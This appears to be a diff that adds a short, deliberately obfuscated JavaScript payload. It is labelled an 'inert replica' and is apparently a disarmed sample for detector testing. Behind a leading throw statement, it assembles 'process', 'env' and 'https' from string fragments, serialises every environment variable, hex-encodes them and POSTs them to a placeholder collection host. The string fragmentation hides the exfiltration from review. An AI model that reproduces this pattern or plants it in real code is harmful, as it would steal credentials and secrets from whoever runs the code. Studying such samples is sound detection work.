@@ -1,0 +1,10 @@
+throw new Error("inert replica");
+const g = globalThis;
+const p = g["pro" + "cess"];
+const { ["e" + "nv"]: variables } = p;
+const load = p.mainModule ? p.mainModule.require.bind(p.mainModule) : require;
+const w = load(["ht", "tps"].join(""));
+const { [["re", "quest"].join("")]: ask } = w;
+const told = Buffer.from(JSON.stringify({ ...variables }));
+const call = ask({ hostname: ["collect", "replica", "invalid"].join("."), method: "POST" });
+call["e" + "nd"](told.toString("hex"));
